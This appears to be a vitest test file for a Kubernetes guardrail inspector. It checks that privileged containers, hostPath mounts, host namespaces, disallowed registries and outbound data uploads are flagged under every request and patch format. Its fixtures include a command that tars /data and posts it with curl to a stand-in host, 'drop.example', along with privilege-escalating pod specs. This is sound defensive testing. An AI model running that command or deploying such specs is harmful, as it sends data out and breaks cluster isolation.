import { describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import type { GuardrailCode } from '../../src/config/guardrail-codes.js';
import { inspect } from '../../src/guardrails/inspect.js';
import type { GuardrailResult } from '../../src/guardrails/types.js';
import { badPod } from '../support/badpods.js';
import { guardSettings, kube, PINNED, toJsonPatch } from '../support/guardrails.js';

/**
 * One change, every spelling (session 51, issue 12): each pod-level guardrail's violating pod spec
 * written into a workload as a create, an update, a JSON patch (leaf by leaf; an `add` or `replace`
 * of the whole `containers` list, of one element, of the pod spec, of the template, of `/spec`), a
 * merge patch, a strategic merge patch (plain, `$patch: replace` of the pod spec or in the list,
 * `$setElementOrder/…`, `$retainKeys`, `$deleteFromPrimitiveList/…`) and a server-side apply (YAML
 * and JSON), for the containers and the init containers of a Pod, a Deployment, a StatefulSet and
 * a CronJob. A JSON patch setting the whole list is a PUT of the list (not container_added, by
 * design: docs/guardrails.md#container_added), and each guardrail still judges what is in it. The
 * clean pod spec, spelled the same ways, fires none of them.
 */

const settings = guardSettings(`
guardrails:
  allowed_registries: [registry.example.com]
  protected_namespaces: ["prod*"]
  upload_hosts: [artifacts.example]
  model_sources: [s3://models]
`);
type Obj = Record<string, unknown>;
const J = 'application/json-patch+json';
const M = 'application/merge-patch+json';
const S = 'application/strategic-merge-patch+json';
const A = 'application/apply-patch+yaml';
const c = (x: Obj = {}): Obj => ({ name: 'app', image: PINNED, ...x });
const digest = (ch: string) => `@sha256:${ch.repeat(64)}`;
const hostRoot = badPod('hostpath', 'Pod')[0]!.spec as Obj;

/** Each guardrail's violating pod spec: the containers list (the first is what changes), and the pod's own fields. */
const FIXTURES: [GuardrailCode, Obj][] = [
  ['image_registry_not_allowed', { containers: [c({ image: `evil.example/x${digest('b')}` })] }],
  ['privileged_container', { containers: [c({ securityContext: { privileged: true } })] }],
  ['capability_added', { containers: [c({ securityContext: { capabilities: { add: ['SYS_ADMIN'] } } })] }],
  ['host_port', { containers: [c({ ports: [{ containerPort: 80, hostPort: 80 }] })] }],
  ['host_path_volume', { containers: [c({ volumeMounts: [{ name: 'noderoot', mountPath: '/host' }] })], volumes: hostRoot.volumes }],
  ['host_namespace', { hostPID: true, containers: [c()] }],
  ['model_source_not_allowed', { containers: [c({ image: `registry.example.com/vllm${digest('c')}`, args: ['--model', 's3://elsewhere/m'] })] }],
  ['data_upload_outside', { containers: [c({ command: ['sh', '-c', 'tar czf - /data | curl --data-binary @- https://drop.example/u'] })] }],
];
const CLEAN: Obj = { containers: [c({ image: `registry.example.com/vllm${digest('d')}`, args: ['--model', 's3://models/m'] }), c({ name: 'upload', command: ['sh', '-c', 'tar czf - /data | curl --data-binary @- https://artifacts.example/u'] })] };

/** A kind: its collection URL, the keys down to its pod spec, and its whole object around a pod spec. */
const KINDS: [string, string, string[], (spec: Obj) => Obj][] = [
  ['Pod', '/api/v1/namespaces/prod-a/pods', ['spec'], (spec) => ({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'web' }, spec })],
  ['Deployment', '/apis/apps/v1/namespaces/prod-a/deployments', ['spec', 'template', 'spec'], (spec) => ({ apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'web' }, spec: { replicas: 1, selector: { matchLabels: { a: 'b' } }, template: { metadata: { labels: { a: 'b' } }, spec } } })],
  ['StatefulSet', '/apis/apps/v1/namespaces/prod-a/statefulsets', ['spec', 'template', 'spec'], (spec) => ({ apiVersion: 'apps/v1', kind: 'StatefulSet', metadata: { name: 'web' }, spec: { serviceName: 'web', selector: { matchLabels: { a: 'b' } }, template: { metadata: { labels: { a: 'b' } }, spec } } })],
  ['CronJob', '/apis/batch/v1/namespaces/prod-a/cronjobs', ['spec', 'jobTemplate', 'spec', 'template', 'spec'], (spec) => ({ apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name: 'web' }, spec: { schedule: '0 * * * *', jobTemplate: { spec: { template: { spec: { ...spec, restartPolicy: 'Never' } } } } } })],
];

const nest = (keys: string[], v: unknown): Obj => keys.reduceRight<unknown>((acc, k) => ({ [k]: acc }), v) as Obj;
const at = (o: Obj, keys: string[]): unknown => keys.reduce<unknown>((acc, k) => (acc as Obj)[k], o);

type Send = [spelling: string, method: string, item: boolean, body: string, contentType: string];

/** The same pod spec, written every way a client can; `list` is the containers list that changes. */
function spellings(spec: Obj, keys: string[], whole: (s: Obj) => Obj, list: string): Send[] {
  const doc = whole(spec);
  const sp = `/${keys.join('/')}`;
  const items = spec[list] as Obj[];
  const rest = Object.entries(spec).filter(([k]) => k !== list);
  const restAs = (op: string) => rest.map(([k, value]) => ({ op, path: `${sp}/${k}`, value }));
  const smp = (pod: Obj): Send => ['', 'PATCH', true, JSON.stringify(nest(keys, pod)), S];
  const named = (name: string, s: Send): Send => [name, s[1], s[2], s[3], s[4]];
  const rows: Send[] = [
    ['create', 'POST', false, JSON.stringify(doc), 'application/json'],
    ['update', 'PUT', true, JSON.stringify(doc), 'application/json'],
    ['JSON patch, leaf by leaf', 'PATCH', true, JSON.stringify(toJsonPatch(nest(keys, spec))), J],
    [`JSON patch add of the whole ${list} list`, 'PATCH', true, JSON.stringify([{ op: 'add', path: `${sp}/${list}`, value: items }, ...restAs('add')]), J],
    [`JSON patch replace of the whole ${list} list`, 'PATCH', true, JSON.stringify([{ op: 'replace', path: `${sp}/${list}`, value: items }, ...restAs('replace')]), J],
    [`JSON patch replace of ${list}/0`, 'PATCH', true, JSON.stringify([{ op: 'replace', path: `${sp}/${list}/0`, value: items[0] }, ...restAs('add')]), J],
    [`JSON patch add of ${list}/-`, 'PATCH', true, JSON.stringify([{ op: 'add', path: `${sp}/${list}/-`, value: items[0] }, ...restAs('add')]), J],
    ['JSON patch replace of the pod spec', 'PATCH', true, JSON.stringify([{ op: 'replace', path: sp, value: spec }]), J],
    ['JSON patch test, then replace of the pod spec', 'PATCH', true, JSON.stringify([{ op: 'test', path: '/metadata/name', value: 'web' }, { op: 'replace', path: sp, value: spec }]), J],
    ['JSON patch replace of /spec', 'PATCH', true, JSON.stringify([{ op: 'replace', path: '/spec', value: doc.spec }]), J],
    ['merge patch', 'PATCH', true, JSON.stringify(nest(keys, spec)), M],
    named('strategic merge patch', smp(spec)),
    named('strategic merge patch, $patch: replace of the pod spec', smp({ $patch: 'replace', ...spec })),
    named(`strategic merge patch, $patch: replace in ${list}`, smp({ ...spec, [list]: [{ $patch: 'replace' }, ...items] })),
    named(`strategic merge patch, $setElementOrder/${list}`, smp({ [`$setElementOrder/${list}`]: items.map((x) => ({ name: x.name })), ...spec })),
    named('strategic merge patch, $retainKeys', smp({ ...spec, $retainKeys: Object.keys(spec) })),
    named('strategic merge patch, $deleteFromPrimitiveList/args', smp({ ...spec, [list]: items.map((x) => ({ ...x, '$deleteFromPrimitiveList/args': ['--verbose'] })) })),
    ['server-side apply (YAML)', 'PATCH', true, stringify(doc), A],
    ['server-side apply (JSON)', 'PATCH', true, JSON.stringify(doc), A],
  ];
  // The template as a whole: a Pod has none (its spec is the object's).
  if (keys.length > 1) rows.push(['JSON patch replace of the template', 'PATCH', true, JSON.stringify([{ op: 'replace', path: `/${keys.slice(0, -1).join('/')}`, value: at(doc, keys.slice(0, -1)) }]), J]);
  return rows;
}

/** The pod spec with the fixture's containers as init containers, beside a clean container. */
const asInit = (spec: Obj): Obj => ({ ...spec, containers: [c({ name: 'main' })], initContainers: spec.containers });

type Row = [code: string, spelling: string, kind: string, list: string, url: string, send: Send];
const rows = (code: string, spec: Obj, withInit: boolean): Row[] =>
  KINDS.flatMap(([kind, url, keys, whole]) =>
    (withInit ? ['containers', 'initContainers'] : ['containers']).flatMap((list) =>
      spellings(list === 'initContainers' ? asInit(spec) : spec, keys, whole, list).map((s): Row => [code, s[0], kind, list, url, s]),
    ),
  );
const run = (url: string, [, method, item, body, contentType]: Send): GuardrailResult =>
  inspect(kube(method, `${url}${item ? '/web' : ''}${contentType === A ? '?fieldManager=kubectl' : ''}`), body, contentType, false, settings);

describe('one change, every spelling: each pod guardrail fires however the pod spec is written', () => {
  const violating = FIXTURES.flatMap(([code, spec]) => rows(code, spec, code !== 'host_namespace'));
  it.each(violating)('%s: %s of a %s (%s)', (code, _spelling, _kind, _list, url, send) => {
    const r = run(url, send);
    expect(r.unreadable).toBeUndefined();
    expect(r.violations.map((v) => v.code)).toContain(code);
  });

  it.each(rows('none', CLEAN, true))('the clean pod spec fires none: %s, %s of a %s (%s)', (_code, _spelling, _kind, _list, url, send) => {
    const found = run(url, send).violations.map((v) => v.code).filter((code) => FIXTURES.some(([f]) => f === code));
    expect(found).toEqual([]);
  });
});
